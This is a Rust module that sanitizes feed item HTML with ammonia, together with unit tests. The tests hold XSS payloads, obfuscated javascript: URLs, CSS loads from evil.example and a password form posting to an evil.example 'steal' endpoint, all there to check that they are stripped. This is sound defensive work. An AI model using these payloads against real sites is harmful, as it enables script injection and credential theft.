//! The last gate before item HTML reaches a feed: whatever the extractor and
//! the (possibly user-written) item template produced, [`item_html`] reduces
//! it to inert content HTML with ammonia. `feed::render*` call it on every
//! `body_html`, so no path can publish unsanitized markup.
//!
//! Invariants of the output:
//! - No active content: `script`, `style`, `iframe`, `object`, `embed`,
//!   `noscript`, `template`, `svg`, `math`, `textarea`, `select` are removed
//!   with their content; `form`, `input`, `button`, `base`, `meta`, `link`
//!   and every other tag outside [`ALLOWED_TAGS`] are removed (their text
//!   stays, escaped).
//! - No event handlers, no `style` (CSS can exfiltrate and overlay), no
//!   `id`/`class` (DOM clobbering): only the attributes listed per tag.
//! - URL attributes (`href`, `src`, every `srcset` candidate) are absolute
//!   `http`, `https` or `mailto` URLs. Relative ones are resolved against the
//!   base (a `file:` base, used for local pages, yields `file:` URLs); without
//!   a base they are dropped. Obfuscated schemes (`JaVaScRiPt:`,
//!   `jav&#x09;ascript:`, leading spaces) are decoded by the HTML parser and
//!   the URL parser before the scheme is checked, so they are dropped too.
//! - Every `<a>` carries `rel="noopener noreferrer"`.
//! - The result is a fragment re-serialized by html5ever, so mutation-XSS
//!   inputs (`<math><mtext><table><mglyph><style>…`) come out as the tree the
//!   sanitizer checked, not as a string a browser would re-parse differently.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};

use url::Url;

/// Tags kept (with the attributes of [`allowed_attributes`]).
pub const ALLOWED_TAGS: &[&str] = &[
    "a",
    "abbr",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "source",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Tags removed together with everything inside them: their content is
/// code, styling or form state, never article text.
const REMOVED_WITH_CONTENT: &[&str] = &[
    "script", "style", "iframe", "object", "embed", "noscript", "template", "svg", "math",
    "textarea", "select", "noembed", "noframes", "xmp",
];

/// URL schemes allowed in `href`, `src` and `srcset`.
const URL_SCHEMES: &[&str] = &["http", "https", "mailto"];

fn allowed_attributes() -> HashMap<&'static str, HashSet<&'static str>> {
    let per_tag: &[(&str, &[&str])] = &[
        ("a", &["href", "hreflang"]),
        ("img", &["src", "srcset", "sizes", "alt", "width", "height"]),
        ("source", &["srcset", "sizes", "media", "type"]),
        ("td", &["colspan", "rowspan", "headers"]),
        ("th", &["colspan", "rowspan", "headers", "scope"]),
        ("col", &["span"]),
        ("colgroup", &["span"]),
        ("ol", &["start", "reversed"]),
        ("time", &["datetime"]),
        ("del", &["datetime"]),
        ("ins", &["datetime"]),
        ("bdo", &["dir"]),
    ];
    per_tag
        .iter()
        .map(|(tag, attrs)| (*tag, attrs.iter().copied().collect()))
        .collect()
}

/// Sanitized item HTML; relative URLs are resolved against `base` (the item's
/// page, else the list page) or dropped when there is none.
pub fn item_html(html: &str, base: Option<&Url>) -> String {
    let srcset_base = base.cloned();
    let mut builder = ammonia::Builder::default();
    builder
        .tags(ALLOWED_TAGS.iter().copied().collect())
        .clean_content_tags(REMOVED_WITH_CONTENT.iter().copied().collect())
        .generic_attributes(["lang", "title"].into_iter().collect())
        .tag_attributes(allowed_attributes())
        .url_schemes(URL_SCHEMES.iter().copied().collect())
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true)
        // ammonia does not treat `srcset` as a URL attribute: check and
        // resolve each candidate here.
        .attribute_filter(move |_element, attribute, value| {
            if attribute == "srcset" {
                clean_srcset(value, srcset_base.as_ref()).map(Cow::Owned)
            } else {
                Some(Cow::Borrowed(value))
            }
        });
    match base {
        Some(base) => builder.url_relative(ammonia::UrlRelative::RewriteWithBase(base.clone())),
        None => builder.url_relative(ammonia::UrlRelative::Deny),
    };
    without_sourceless_images(&builder.clean(html).to_string())
}

/// An `<img>` tag as ammonia serializes it (double-quoted values, `"`
/// escaped inside them, so `>` in a value cannot end the match early).
static IMG_TAG: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r#"<img((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*/?>"#).expect("valid regex")
});

/// `html` without the `<img>` tags that lost (or never had) a `src`: a
/// reader shows them as broken-image boxes.
fn without_sourceless_images(html: &str) -> String {
    IMG_TAG
        .replace_all(html, |c: &regex::Captures<'_>| {
            let attrs = c.get(1).map_or("", |m| m.as_str());
            // Values cannot hold `"`, so ` src="` only starts an attribute.
            if attrs.contains(" src=\"") {
                c[0].to_string()
            } else {
                String::new()
            }
        })
        .into_owned()
}

/// A `srcset` value with every candidate URL made absolute and checked;
/// `None` when no candidate survives.
fn clean_srcset(value: &str, base: Option<&Url>) -> Option<String> {
    let mut kept: Vec<String> = Vec::new();
    for (url, descriptor) in srcset_candidates(value) {
        let Some(url) = absolute_url(url, base) else {
            continue;
        };
        // Descriptors are `1.5x` or `640w`: anything else is not one.
        let descriptor = descriptor.trim();
        let descriptor_ok = descriptor.is_empty()
            || (descriptor.len() <= 16
                && descriptor
                    .chars()
                    .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'x' | 'w' | 'h')));
        if !descriptor_ok {
            continue;
        }
        // A comma inside a URL would split the candidate when re-parsed.
        let url = url.as_str().replace(',', "%2C");
        if descriptor.is_empty() {
            kept.push(url);
        } else {
            kept.push(format!("{url} {descriptor}"));
        }
    }
    (!kept.is_empty()).then(|| kept.join(", "))
}

/// `(url, descriptors)` pairs of a `srcset`, split as the HTML standard's
/// "parse a srcset attribute" does (URL = run of non-space characters,
/// trailing commas end it; descriptors run to the next comma).
fn srcset_candidates(value: &str) -> Vec<(&str, &str)> {
    let mut out = Vec::new();
    let mut rest = value;
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == ',');
        if rest.is_empty() {
            return out;
        }
        let url_end = rest
            .find(|c: char| c.is_ascii_whitespace())
            .unwrap_or(rest.len());
        let url = &rest[..url_end];
        if let Some(stripped) = url.strip_suffix(',') {
            out.push((stripped.trim_end_matches(','), ""));
            rest = &rest[url_end..];
            continue;
        }
        let after = &rest[url_end..];
        let descriptor_end = after.find(',').unwrap_or(after.len());
        out.push((url, &after[..descriptor_end]));
        rest = &after[descriptor_end..];
    }
}

/// `raw` as an absolute URL with an allowed scheme (or `file:` when it came
/// from resolving against a local page's base).
fn absolute_url(raw: &str, base: Option<&Url>) -> Option<Url> {
    match Url::parse(raw) {
        Ok(url) => URL_SCHEMES.contains(&url.scheme()).then_some(url),
        Err(url::ParseError::RelativeUrlWithoutBase) => {
            let url = base?.join(raw).ok()?;
            matches!(url.scheme(), "http" | "https" | "file").then_some(url)
        }
        Err(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn base() -> Url {
        Url::parse("https://news.example.org/2026/03/story.html").unwrap()
    }

    #[test]
    fn content_markup_survives_with_absolute_links() {
        let html = r#"<h2>Results</h2><p>See <a href="/data.csv" onclick="x()">the data</a>.</p>
<figure><picture><source srcset="/img/a.webp 1x, img/a@2x.webp 2x" type="image/webp"><img src="a.jpg" alt="Chart" width="640"></picture><figcaption>Turnout by year</figcaption></figure>
<table><thead><tr><th scope="col">Year</th></tr></thead><tbody><tr><td colspan="2">2024</td></tr></tbody></table>
<pre><code>let x = 1 &lt; 2;</code></pre><blockquote>Quote</blockquote><ul><li>one</li></ul><ol start="3"><li>three</li></ol>"#;
        let out = item_html(html, Some(&base()));
        for want in [
            "<h2>Results</h2>",
            r#"<a href="https://news.example.org/data.csv" rel="noopener noreferrer">the data</a>"#,
            r#"<source srcset="https://news.example.org/img/a.webp 1x, https://news.example.org/2026/03/img/a@2x.webp 2x" type="image/webp">"#,
            r#"<img src="https://news.example.org/2026/03/a.jpg" alt="Chart" width="640">"#,
            "<figcaption>Turnout by year</figcaption>",
            r#"<th scope="col">Year</th>"#,
            r#"<td colspan="2">2024</td>"#,
            "<pre><code>let x = 1 &lt; 2;</code></pre>",
            "<blockquote>Quote</blockquote>",
            r#"<ol start="3">"#,
        ] {
            assert!(out.contains(want), "missing {want}\nin {out}");
        }
        assert!(!out.contains("onclick"), "{out}");
    }

    #[test]
    fn active_content_and_bad_urls_are_removed() {
        let html = r#"<p style="background:url(//evil.example/x)" class="c" id="login">Hi</p>
<script>alert(1)</script><style>@import "//evil.example/x.css";</style>
<iframe srcdoc="<script>alert(1)</script>">frame</iframe>
<a href="javascript:alert(1)">js</a><a href="JaVaScRiPt:alert(1)">js2</a>
<a href="jav&#x09;ascript:alert(1)">js3</a><a href=" data:text/html,x">data</a>
<a href="vbscript:msgbox(1)">vb</a><a href="mailto:desk@example.org">mail</a>
<img src="x" onerror="alert(1)"><img srcset="javascript:alert(1) 1x, data:image/png;base64,AA 2x">
<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>"#;
        let out = item_html(html, Some(&base()));
        for banned in [
            "style",
            "class=",
            "id=",
            "<script",
            "alert(1)",
            "@import",
            "iframe",
            "srcdoc",
            "javascript",
            "JaVaScRiPt",
            "vbscript",
            "data:",
            "onerror",
            "<form",
            "<input",
            "<button",
            "srcset",
        ] {
            assert!(!out.contains(banned), "{banned} survived in {out}");
        }
        assert!(
            out.contains(r#"<a href="mailto:desk@example.org" rel="noopener noreferrer">"#),
            "{out}"
        );
        assert!(out.contains("<p>Hi</p>"), "{out}");
        // The relative `x` was resolved, the handler dropped.
        assert!(
            out.contains(r#"<img src="https://news.example.org/2026/03/x">"#),
            "{out}"
        );
    }

    #[test]
    fn without_a_base_relative_urls_are_dropped() {
        let out = item_html(
            r#"<a href="/rel">r</a><img src="pic.png" srcset="pic.png 1x"><a href="https://ok.example/">ok</a>"#,
            None,
        );
        assert_eq!(
            out,
            r#"<a rel="noopener noreferrer">r</a><a href="https://ok.example/" rel="noopener noreferrer">ok</a>"#
        );
    }

    /// Regression: `<img data-src=…>` (lazy loading) came out as a bare
    /// `<img>`, a broken-image box in every reader.
    #[test]
    fn images_without_src_are_dropped() {
        let out = item_html(
            r#"<p>a<img data-src="lazy.jpg" alt="x > y"></p><img alt="src=&quot;" src="ok.png"><img>"#,
            Some(&base()),
        );
        assert_eq!(
            out,
            r#"<p>a</p><img alt="src=&quot;" src="https://news.example.org/2026/03/ok.png">"#
        );
    }

    #[test]
    fn srcset_is_split_like_browsers_do() {
        assert_eq!(
            srcset_candidates(" a.jpg 1x,b.jpg  2x , c.jpg,, d.jpg,"),
            vec![
                ("a.jpg", " 1x"),
                ("b.jpg", "  2x "),
                ("c.jpg", ""),
                ("d.jpg", "")
            ]
        );
        assert_eq!(
            clean_srcset("/a.jpg 640w, x.jpg onerror=1", Some(&base())).as_deref(),
            Some("https://news.example.org/a.jpg 640w")
        );
        assert_eq!(clean_srcset("javascript:alert(1)", Some(&base())), None);
    }

    #[test]
    fn sanitizing_twice_changes_nothing() {
        // Bodies are cleaned by `bodies` and again by `feed`: the second
        // pass must not alter (or double-escape) the first one's output.
        let html = r#"<h1>T&amp;C</h1><p>a &lt; b &gt; c "q" <a href="/x?a=1&amp;b=2">l</a></p>
<figure><img src="i.png" srcset="i.png 1x, i@2x.png 2x" alt="A &quot;pic&quot;"><figcaption>c</figcaption></figure>
<pre>  keep
    spacing</pre><p>&#xD800; and �</p>"#;
        let once = item_html(html, Some(&base()));
        assert_eq!(item_html(&once, Some(&base())), once);
        assert!(once.contains("\u{fffd} and \u{fffd}"), "{once}");
        assert!(once.contains("<pre>  keep\n    spacing</pre>"), "{once}");
    }
}
